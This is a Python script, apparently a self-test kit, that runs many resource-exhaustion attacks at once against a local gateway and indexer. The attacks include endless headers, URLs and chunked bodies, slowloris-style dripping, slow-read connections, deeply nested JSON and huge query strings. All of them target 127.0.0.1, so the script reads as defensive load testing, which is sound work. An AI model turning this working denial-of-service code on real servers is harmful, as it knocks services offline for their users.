"""Run all attacks by size at the same time: `python -m kit.size_attacks SECONDS GATEWAY_PORT INDEXER_PORT`.

Each attack opens a connection, sends until the server closes it or the attack's own limit is reached, and begins again.
"""

from __future__ import annotations

import asyncio
import itertools
import socket
import sys
from collections.abc import AsyncIterator, Callable, Iterable
from contextlib import suppress

MIB = 1 << 20
WEBHOOK = b"POST /api/webhooks/helius HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
SECRET = b"Authorization: what Helius echoes, of 32 characters\r\n"
_CHUNK = b"10000\r\n" + b"[" * 65_536 + b"\r\n"
_MOST_BYTES = 600 * MIB
_SILENT = 60
_PAUSE_S = 0.02

ENDLESS = {
    "a header": (b"GET /health HTTP/1.1\r\nX-Long: ", b"y" * 65_536),
    "header lines": (b"GET /health HTTP/1.1\r\nHost: x\r\n", b"X-Long: yyyyyyyyyyyyyyyyyy\r\n" * 2_000),
    "a URL": (b"GET /", b"u" * 65_536),
    "trailers": (WEBHOOK + SECRET + CHUNKED + b"0\r\n", b"X-Long: yyyyyyyyyyyyyyyyyy\r\n" * 2_000),
    "a chunk's extension": (WEBHOOK + SECRET + CHUNKED + b"5;", b"e" * 65_536),
    "a body of a stranger": (WEBHOOK + CHUNKED, _CHUNK),
    "a body": (WEBHOOK + SECRET + CHUNKED, _CHUNK),
}
DRIPPING = {
    "a head": (b"GET /health HTTP/1.1\r\n", b"X-Slow: y\r\n"),
    "a body": (WEBHOOK + SECRET + CHUNKED, b"1\r\n[\r\n"),
}


async def pour(port: int, begin: bytes, piece: bytes) -> None:
    """Send `begin`, then `piece` again and again, as fast as the server reads: 600 MiB at most."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with suppress(ConnectionError):
        writer.write(begin)
        for _ in range(_MOST_BYTES // len(piece)):
            if reader.at_eof():
                break
            writer.write(piece)
            await writer.drain()
    writer.transport.abort()


async def drip(port: int, begin: bytes, piece: bytes) -> None:
    """Send `begin`, then `piece` once a second, until the server closes the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with suppress(ConnectionError):
        writer.write(begin)
        while not reader.at_eof():
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(1)
    writer.transport.abort()


async def stay_silent(port: int) -> None:
    """Request a large answer 20 times on one connection and read none of it for 60 s."""
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    client.setblocking(False)
    loop = asyncio.get_running_loop()
    with suppress(ConnectionError):
        await loop.sock_connect(client, ("127.0.0.1", port))
        await loop.sock_sendall(client, b"GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 20)
        await asyncio.sleep(60)
    client.close()


async def ask(port: int, targets: Iterable[bytes]) -> None:
    """Send a GET for each target, each on a new connection, and read the answer."""
    for target in targets:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        with suppress(ConnectionError):
            writer.write(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            while await reader.read(65_536):
                pass
        writer.close()
        await asyncio.sleep(_PAUSE_S)


def many_addresses() -> Iterable[bytes]:
    """Yield request targets without end, each of them twice."""
    for number in itertools.count():
        yield from [b"/api/markets?limit=200&x=%d" % number] * 2


def long_queries() -> Iterable[bytes]:
    """Yield targets without end, in turn with 14,500 names (83 KB), 1,200 names (6 KB), and 99, within the bounds."""
    for number in itertools.count():
        for count in (14_500, 1_200, 99):
            yield b"/api/markets?" + b"&".join(b"%x=" % each for each in range(count)) + b"&n=%d&n=1" % number


async def nest(port: int) -> None:
    """Post two bodies: one nested 30,000 levels deep, and one with 6,000 names."""
    deep = b"[" * 30_000 + b"]" * 30_000
    names = b"{" + b",".join(b'"%x":1' % number for number in range(6_000)) + b"}"
    for body in (deep, names):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        head = b"POST /api/discussions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
        with suppress(ConnectionError):
            writer.write(head + b"Content-Length: %d\r\n\r\n" % len(body) + body)
            await reader.read()
        writer.close()


async def again(attack: Callable[[], AsyncIterator[None]]) -> None:
    """Repeat an attack until cancelled."""
    while True:
        with suppress(ConnectionError):
            await attack()
        await asyncio.sleep(_PAUSE_S)


async def main(seconds: float, gateway: int, indexer: int) -> None:
    """Run all attacks at the same time for that many seconds; `gateway` and `indexer` are ports."""
    attacks = [
        lambda: ask(gateway, many_addresses()),
        lambda: ask(gateway, long_queries()),
        lambda: nest(gateway),
    ]
    for port in (gateway, indexer):
        attacks += [lambda port=port, sent=sent: pour(port, *sent) for sent in ENDLESS.values()]
        attacks += [
            lambda port=port, sent=sent: drip(port, *sent) for sent in DRIPPING.values() for _ in range(20)
        ]
        attacks += [lambda port=port: stay_silent(port) for _ in range(_SILENT)]
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*map(again, attacks))


if __name__ == "__main__":
    asyncio.run(main(float(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])))
